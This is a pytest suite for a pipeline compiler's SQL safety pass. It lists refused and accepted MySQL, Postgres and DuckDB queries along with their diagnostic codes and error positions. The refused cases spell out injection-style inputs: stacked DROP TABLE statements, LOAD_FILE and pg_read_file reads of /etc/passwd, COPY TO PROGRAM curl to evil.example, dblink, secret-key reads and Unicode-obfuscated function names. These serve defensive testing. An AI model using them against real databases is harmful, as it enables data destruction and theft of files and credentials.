"""The sql pass: SQL that must be refused (each with its exact code), analytical SQL that must
pass, syntax errors at the file's line and column, and a transform's table rules."""

from __future__ import annotations

import doctest
import importlib

import pytest

from compiler.compile import check, default_context
from compiler.program import Program

EXTRACTORS = {"mysql": "mysql.extractor", "postgres": "postgres.extractor"}


def _block(sql: str) -> str:
    return "\n".join("        " + line for line in sql.split("\n"))


def extract_doc(sql: str, dialect: str = "mysql") -> str:
    """One extract step whose query is a `query: |` block scalar starting on line 9."""
    return f"""oml_version: "0.1.0"
name: safety
steps:
  - id: extract_orders
    component: {EXTRACTORS[dialect]}
    mode: read
    config:
      query: |
{_block(sql)}
"""


def transform_doc(sql: str) -> str:
    """An extract and a DuckDB transform reading it as `orders`; the query starts on line 15."""
    return f"""oml_version: "0.1.0"
name: safety
steps:
  - id: extract_orders
    component: mysql.extractor
    mode: read
    config:
      query: "SELECT id, customer_id, total, note, created_at FROM orders"
  - id: clean
    component: duckdb.processor
    mode: transform
    inputs: {{orders: "${{extract_orders.df}}"}}
    config:
      query: |
{_block(sql)}
"""


def compile_doc(text: str) -> Program:
    return check(text, default_context())


def doc_for(dialect: str, sql: str) -> str:
    return transform_doc(sql) if dialect == "duckdb" else extract_doc(sql, dialect)


# ---- refused ---------------------------------------------------------------------------

REFUSED: list[tuple[str, str, str]] = [
    # stacked statements and comment tricks
    ("mysql", "SELECT 1; DROP TABLE users", "SQL401"),
    ("mysql", "SELECT 1; -- harmless\nDROP TABLE users", "SQL401"),
    ("mysql", "SELECT 1 /* ; */ ; DELETE FROM users", "SQL401"),
    ("mysql", "SeLeCt 1;\tdRoP tAbLe users", "SQL401"),
    ("mysql", "SELECT 1;\u00a0DROP TABLE users", "SQL401"),
    ("postgres", "SELECT 1;\nTRUNCATE users", "SQL401"),
    ("duckdb", "SELECT * FROM orders; DROP TABLE orders", "SQL401"),
    ("mysql", "SELECT 1 /*!50000 ; DROP TABLE users */", "SQL404"),
    ("mysql", "SELECT id FROM users /*!50000 UNION SELECT LOAD_FILE('/etc/passwd') */", "SQL404"),
    ("mysql", "SELECT /*M!100000 SLEEP(10), */ 1", "SQL404"),
    # not a query at all
    ("mysql", "DELETE FROM users", "SQL402"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "SQL402"),
    ("mysql", "SET @a = 1", "SQL402"),
    ("mysql", "CALL refresh_all()", "SQL402"),
    ("mysql", "HANDLER users OPEN", "SQL402"),
    ("mysql", "SHOW GRANTS", "SQL402"),
    ("mysql", "\uff33\uff25\uff2c\uff25\uff23\uff34 1", "SQL402"),  # full-width SELECT
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'curl https://evil.example'", "SQL402"),
    ("postgres", "COPY users FROM '/etc/passwd'", "SQL402"),
    ("postgres", "DO $$ BEGIN DELETE FROM users; END $$", "SQL402"),
    ("postgres", "LOCK TABLE users", "SQL402"),
    ("postgres", "SET search_path TO evil", "SQL402"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM users", "SQL402"),
    ("postgres", "PREPARE p AS DELETE FROM users", "SQL402"),
    ("postgres", "NOTIFY channel", "SQL402"),
    ("postgres", "WITH x AS (SELECT 1) DELETE FROM users", "SQL402"),
    # writable CTEs
    ("postgres", "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "SQL402"),
    (
        "postgres",
        "WITH added AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM added",
        "SQL402",
    ),
    (
        "postgres",
        "WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM x",
        "SQL402",
    ),
    # INTO, locking reads, assignments
    ("mysql", "SELECT * FROM users INTO OUTFILE '/tmp/users.txt'", "SQL404"),
    ("mysql", "SELECT * INTO DUMPFILE '/tmp/x' FROM users", "SQL404"),
    ("mysql", "SELECT 1 INTO @x", "SQL404"),
    ("postgres", "SELECT * INTO backup FROM users", "SQL404"),
    ("mysql", "SELECT id FROM users FOR UPDATE", "SQL404"),
    ("mysql", "SELECT id FROM users LOCK IN SHARE MODE", "SQL404"),
    ("postgres", "SELECT id FROM users FOR SHARE", "SQL404"),
    ("postgres", "SELECT id FROM users FOR UPDATE SKIP LOCKED", "SQL404"),
    ("mysql", "SELECT @x := 1", "SQL404"),
    # functions: files, other databases, stalls, side effects — in any spelling
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "SQL403"),
    ("mysql", "SELECT lOaD_fIlE('/etc/passwd')", "SQL403"),
    ("mysql", "SELECT `load_file`('/etc/passwd')", "SQL403"),
    ("mysql", "SELECT \uff2c\uff2f\uff21\uff24_\uff26\uff29\uff2c\uff25('/etc/passwd')", "SQL403"),
    ("mysql", "SELECT LOAD\u200b_FILE('/etc/passwd')", "SQL403"),
    ("mysql", "SELECT id FROM users WHERE id = 1 AND SLEEP(10)", "SQL403"),
    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "SQL403"),
    ("mysql", "SELECT /*+ SET_VAR(sql_mode = '') */ id FROM users", "SQL403"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "SQL403"),
    ("postgres", "SELECT PG_READ_BINARY_FILE('/etc/passwd')", "SQL403"),
    ("postgres", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "SQL403"),
    ("postgres", "SELECT * FROM pg_ls_dir('.')", "SQL403"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "SQL403"),
    ("postgres", "SELECT lo_export(1234, '/tmp/x')", "SQL403"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "SQL403"),
    ("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "SQL403"),
    ("postgres", "SELECT pg_sleep(60)", "SQL403"),
    ("postgres", "SELECT set_config('search_path', 'evil', false)", "SQL403"),
    ("postgres", "SELECT nextval('orders_id_seq')", "SQL403"),
    ("postgres", "SELECT setval('orders_id_seq', 1)", "SQL403"),
    ("postgres", "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", "SQL403"),
    # DuckDB: statements that reach outside the data plane
    ("duckdb", "INSTALL httpfs", "SQL402"),
    ("duckdb", "LOAD httpfs", "SQL402"),
    ("duckdb", "ATTACH 'other.db' AS other", "SQL402"),
    ("duckdb", "PRAGMA database_list", "SQL402"),
    ("duckdb", "SET threads = 1", "SQL402"),
    ("duckdb", "CALL pragma_version()", "SQL402"),
    ("duckdb", "COPY orders TO '/tmp/out.csv'", "SQL402"),
    ("duckdb", "SELECT getenv('HOME') AS home FROM orders", "SQL403"),
    ("duckdb", "SELECT * FROM query('DROP TABLE orders')", "SQL403"),
    ("duckdb", "SELECT * FROM json_execute_serialized_sql('{}')", "SQL403"),
    ("duckdb", "SELECT current_setting('s3_secret_access_key') AS k FROM orders", "SQL403"),
]


@pytest.mark.parametrize(("dialect", "sql", "code"), REFUSED)
def test_refused(dialect: str, sql: str, code: str) -> None:
    program = compile_doc(doc_for(dialect, sql))
    assert [d.code for d in program.diagnostics] == [code]
    step = "clean" if dialect == "duckdb" else "extract_orders"
    assert step in program.broken and step not in program.sql


def test_refused_corpus_is_large() -> None:
    assert len(REFUSED) >= 30
    assert len({(d, s) for d, s, _ in REFUSED}) == len(REFUSED)


def test_refusal_points_at_the_construct() -> None:
    program = compile_doc(
        extract_doc("SELECT id,\n       LOAD_FILE('/etc/passwd') AS p\nFROM users")
    )
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column, d.end_column) == ("SQL403", 10, 16, 25)
    assert d.message == "LOAD_FILE() is not allowed: it reads files on the database server"


def test_disguised_function_name_is_shown_folded() -> None:
    program = compile_doc(
        extract_doc("SELECT \uff2c\uff2f\uff21\uff24_\uff26\uff29\uff2c\uff25('/etc/passwd')")
    )
    (d,) = program.diagnostics
    assert d.message == (
        "LOAD_FILE() (written '\uff2c\uff2f\uff21\uff24_\uff26\uff29\uff2c\uff25') is not allowed: "
        "it reads files on the database server"
    )


def test_hint_refusal_points_at_the_hint() -> None:
    program = compile_doc(extract_doc("SELECT /*+ SET_VAR(sql_mode = '') */ id FROM users"))
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column) == ("SQL403", 9, 16)


def test_stacked_statement_points_at_the_second_one() -> None:
    program = compile_doc(extract_doc("SELECT 1;\n  DROP TABLE users"))
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column) == ("SQL401", 10, 11)
    assert "'DROP'" in d.message


def test_writable_cte_names_the_statement() -> None:
    program = compile_doc(
        extract_doc("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "postgres")
    )
    (d,) = program.diagnostics
    assert (
        d.message == "DELETE inside WITH (a writable CTE) is not allowed: the query must only read"
    )
    assert (d.line, d.column) == (9, 23)


def test_locking_read_points_at_for() -> None:
    program = compile_doc(extract_doc("SELECT id\nFROM users\nFOR UPDATE"))
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column, d.end_column) == ("SQL404", 11, 9, 19)


# ---- accepted ----------------------------------------------------------------------------

ACCEPTED: list[tuple[str, str]] = [
    (
        "mysql",
        "SELECT o.id, o.total, c.country\nFROM orders AS o\n"
        "JOIN customers AS c ON c.id = o.customer_id\nWHERE o.created_at >= '2024-01-01'",
    ),
    (
        "mysql",
        "WITH recent AS (SELECT * FROM orders WHERE created_at > NOW() - INTERVAL 7 DAY)\n"
        "SELECT customer_id, COUNT(*) AS n FROM recent GROUP BY customer_id",
    ),
    (
        "mysql",
        "SELECT id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at DESC) AS rn\n"
        "FROM orders",
    ),
    (
        "mysql",
        "SELECT customer_id, SUM(total) AS revenue FROM orders GROUP BY customer_id WITH ROLLUP",
    ),
    ("mysql", "SELECT id, CASE WHEN total > 100 THEN 'big' ELSE 'small' END AS size FROM orders"),
    (
        "mysql",
        "SELECT id FROM orders\n"
        "WHERE customer_id IN (SELECT id FROM customers WHERE country = 'DE')",
    ),
    ("mysql", "SELECT id FROM orders UNION ALL SELECT id FROM archived_orders"),
    (
        "mysql",
        "SELECT JSON_EXTRACT(payload, '$.user.id') AS uid, payload->>'$.kind' AS kind FROM events",
    ),
    (
        "mysql",
        "SELECT DATE_FORMAT(created_at, '%Y-%m') AS month, COUNT(*) AS n\n"
        "FROM orders GROUP BY month",
    ),
    ("mysql", "SELECT id, LAG(total) OVER w AS prev FROM orders WINDOW w AS (ORDER BY id)"),
    ("mysql", "SELECT /*+ MAX_EXECUTION_TIME(1000) */ id FROM orders"),
    ("mysql", "SELECT 'it''s; fine -- really' AS note, '/*!50000 text */' AS s FROM dual"),
    ("mysql", "SELECT id FROM orders -- a trailing comment\nWHERE total > 0;"),
    ("mysql", "SELECT a.id FROM (SELECT id FROM (SELECT id FROM orders) AS b) AS a"),
    ("postgres", "SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY total) AS median FROM orders"),
    (
        "postgres",
        "SELECT customer_id, SUM(total) AS revenue FROM orders GROUP BY ROLLUP (customer_id)",
    ),
    (
        "postgres",
        "WITH RECURSIVE t(n) AS (\n  SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10\n)\n"
        "SELECT n FROM t",
    ),
    ("postgres", "SELECT payload->>'kind' AS kind, payload #>> '{user,id}' AS uid FROM events"),
    (
        "postgres",
        "SELECT date_trunc('month', created_at) AS month, count(*) AS n FROM orders GROUP BY 1",
    ),
    ("postgres", "SELECT n FROM generate_series(1, 10) AS g(n)"),
    (
        "postgres",
        "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
    ),
    (
        "postgres",
        "SELECT DISTINCT ON (customer_id) customer_id, created_at\n"
        "FROM orders ORDER BY customer_id, created_at DESC",
    ),
    ("postgres", "SELECT id FROM orders INTERSECT SELECT order_id FROM refunds"),
    ("postgres", "SELECT id FROM orders EXCEPT SELECT order_id FROM refunds"),
    ("postgres", "VALUES (1, 'a'), (2, 'b')"),
    ("postgres", "SELECT string_agg(name, ', ' ORDER BY name) AS names FROM customers"),
    ("postgres", "SELECT count(*) FILTER (WHERE total > 100) AS big FROM orders"),
    ("postgres", "SELECT $$a; DROP TABLE x$$ AS s"),
    ("postgres", "SELECT id FROM orders WHERE created_at >= now() - interval '7 days'"),
    ("postgres", "SELECT lag(total, 1) OVER (ORDER BY created_at) AS prev, total FROM orders"),
    ("postgres", "SELECT current_setting('TimeZone') AS tz"),
    ("duckdb", "SELECT customer_id, sum(total) AS revenue FROM orders GROUP BY ALL"),
    ("duckdb", "SELECT * EXCLUDE (note) FROM orders"),
    (
        "duckdb",
        "SELECT id, total FROM orders\n"
        "QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY total DESC) = 1",
    ),
    ("duckdb", "WITH t AS (SELECT * FROM df_extract_orders) SELECT * FROM t"),
    ("duckdb", "SELECT quantile_cont(total, 0.5) AS median FROM extract_orders"),
    ("duckdb", "SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY total) AS median FROM orders"),
    ("duckdb", "SELECT list_transform([1, 2], x -> x * 2) AS l, id FROM orders"),
    ("duckdb", "SELECT o.id FROM orders AS o JOIN orders AS p ON o.customer_id = p.customer_id"),
    ("duckdb", "SELECT range AS n FROM range(10)"),
    (
        "duckdb",
        "SELECT strftime(created_at, '%Y-%m') AS month, count(*) AS n FROM orders GROUP BY 1",
    ),
    ("duckdb", "SELECT id FROM orders UNION BY NAME SELECT id FROM extract_orders"),
]


@pytest.mark.parametrize(("dialect", "sql"), ACCEPTED)
def test_accepted(dialect: str, sql: str) -> None:
    program = compile_doc(doc_for(dialect, sql))
    assert program.diagnostics == []
    step = "clean" if dialect == "duckdb" else "extract_orders"
    unit = program.sql[step]["query"]
    assert (unit.dialect, unit.role) == (dialect, "transform" if dialect == "duckdb" else "extract")


def test_accepted_corpus_is_large() -> None:
    assert len(ACCEPTED) >= 20


# ---- syntax errors at the file's line and column --------------------------------------


def test_syntax_error_inside_block_scalar() -> None:
    program = compile_doc(
        extract_doc("SELECT id,\n       total\nFROM orders\nORDER total", "postgres")
    )
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column, d.end_line, d.end_column) == ("SQL400", 12, 15, 12, 20)
    assert d.message == "SQL syntax error: unexpected token near 'total'"
    assert d.path == "/steps/0/config/query"


def test_unterminated_string_points_at_its_quote() -> None:
    program = compile_doc(extract_doc("SELECT id\nFROM orders\nWHERE status = 'paid"))
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column) == ("SQL400", 11, 24)
    assert d.message == "SQL syntax error: unterminated string or quoted name"


def test_syntax_error_after_a_param_points_into_the_file() -> None:
    text = """oml_version: "0.1.0"
name: safety
params: {since: {type: string, default: "2024-01-01"}}
steps:
  - id: extract_orders
    component: mysql.extractor
    mode: read
    config:
      query: "SELECT id FROM orders WHERE day >= '${params.since}' AND AND x"
"""
    (d,) = compile_doc(text).diagnostics
    line = text.splitlines()[8]
    assert (d.code, d.line, d.column) == ("SQL400", 9, line.index("AND AND") + 5)


# ---- a transform reads only its inputs -------------------------------------------------


def test_unknown_table_in_transform_lists_inputs_and_suggests() -> None:
    program = compile_doc(transform_doc("SELECT o.id\nFROM ordrs AS o"))
    (d,) = program.diagnostics
    assert (d.code, d.line, d.column) == ("SQL405", 16, 14)
    assert d.message == (
        "unknown table 'ordrs': a transform reads only its inputs "
        "(df_extract_orders, extract_orders, orders)"
    )
    assert d.suggestions == ("orders",)
    assert d.hint == "did you mean 'orders'?"


@pytest.mark.parametrize(
    "table", ["orders", "extract_orders", "df_extract_orders", "ORDERS", '"df_extract_orders"']
)
def test_transform_reads_input_by_any_of_its_names(table: str) -> None:
    program = compile_doc(transform_doc(f"SELECT id FROM {table}"))
    assert program.diagnostics == []
    assert program.sql["clean"]["query"].tables == ("extract_orders",)


def test_transform_may_not_name_a_qualified_table() -> None:
    (d,) = compile_doc(transform_doc("SELECT id FROM main.orders")).diagnostics
    assert d.code == "SQL405"


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_csv_auto('data/*.csv')",
        "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
        "SELECT * FROM read_json_auto('x.json')",
        "SELECT * FROM read_text('/etc/hosts')",
        "SELECT * FROM read_blob('/etc/hosts')",
        "SELECT * FROM parquet_scan('x.parquet')",
        "SELECT * FROM glob('/home/*')",
        "SELECT * FROM sqlite_scan('other.db', 't')",
        "SELECT * FROM postgres_scan('host=evil', 'public', 't')",
        "SELECT * FROM mysql_query('evil', 'SELECT 1')",
        "SELECT * FROM iceberg_scan('s3://bucket/table')",
        "SELECT * FROM delta_scan('s3://bucket/table')",
        "SELECT * FROM 'data.csv'",
        "SELECT d.* FROM 'data.csv' AS d",
        "SELECT * FROM 'https://evil.example/x.parquet'",
        'SELECT * FROM "data.parquet"',
        "SELECT o.id FROM orders AS o JOIN read_csv('x.csv') AS r ON r.id = o.id",
    ],
)
def test_file_and_network_reads_refused_in_transform(sql: str) -> None:
    (d,) = compile_doc(transform_doc(sql)).diagnostics
    assert d.code == "SQL406"
    assert d.line == 15


def test_unknown_table_and_file_read_both_reported() -> None:
    program = compile_doc(
        transform_doc("SELECT o.id FROM ordrs AS o\nJOIN read_csv('/etc/passwd') AS p ON true")
    )
    assert [(d.code, d.line, d.column) for d in program.diagnostics] == [
        ("SQL405", 15, 26),
        ("SQL406", 16, 14),
    ]


# ---- canonical SQL ---------------------------------------------------------------------


def _canonical(sql: str, dialect: str = "mysql") -> str:
    program = compile_doc(doc_for(dialect, sql))
    assert program.diagnostics == []
    step = "clean" if dialect == "duckdb" else "extract_orders"
    return program.sql[step]["query"].canonical


def test_canonical_ignores_formatting_comments_case_and_quoting() -> None:
    plain = _canonical("SELECT id, total FROM orders WHERE total > 100")
    assert plain == "SELECT `id`, `total` FROM `orders` WHERE `total` > 100"
    assert _canonical("select  id,\n  total -- the amount\nfrom `orders`\nwhere total>100") == plain
    assert _canonical("/* lead */ SELECT `id`, `total` FROM orders WHERE total > 100;") == plain
    assert _canonical("SELECT id, total FROM orders WHERE total > 101") != plain


def test_canonical_folds_names_as_the_dialect_does() -> None:
    assert _canonical("SELECT Id FROM Orders", "postgres") == _canonical(
        'SELECT "id" FROM "orders"', "postgres"
    )
    assert _canonical('SELECT "Id" FROM orders', "postgres") != _canonical(
        "SELECT id FROM orders", "postgres"
    )
    assert _canonical("SELECT ID FROM ORDERS", "duckdb") == _canonical(
        "select id from orders", "duckdb"
    )


def test_canonical_shows_params_not_their_values() -> None:
    def canonical_with(value: str) -> str:
        text = f"""oml_version: "0.1.0"
name: safety
params: {{since: {{type: string, default: "{value}"}}, n: {{type: integer, default: 5}}}}
steps:
  - id: extract_orders
    component: mysql.extractor
    mode: read
    config:
      query: "SELECT id FROM orders WHERE day >= '${{params.since}}' AND n > ${{params.n}}"
"""
        program = compile_doc(text)
        assert program.diagnostics == []
        return program.sql["extract_orders"]["query"].canonical

    first = canonical_with("2024-01-01")
    assert (
        first == "SELECT `id` FROM `orders` WHERE `day` >= '${params.since}' AND `n` > ${params.n}"
    )
    assert canonical_with("2025-06-30") == first


def test_docstring_example() -> None:
    module = importlib.import_module("compiler.passes.sql")
    result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 0 and result.failed == 0
